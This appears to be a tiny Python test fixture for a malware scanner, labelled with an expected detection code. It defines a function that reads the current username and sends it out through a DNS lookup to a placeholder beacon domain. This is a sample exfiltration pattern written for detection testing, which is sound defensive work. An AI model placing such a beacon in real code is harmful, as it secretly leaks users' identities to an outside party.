# expect: MAL003
import getpass
import socket


def beacon():
    user = getpass.getuser()
    socket.gethostbyname(f"{user}.beacon.invalid")
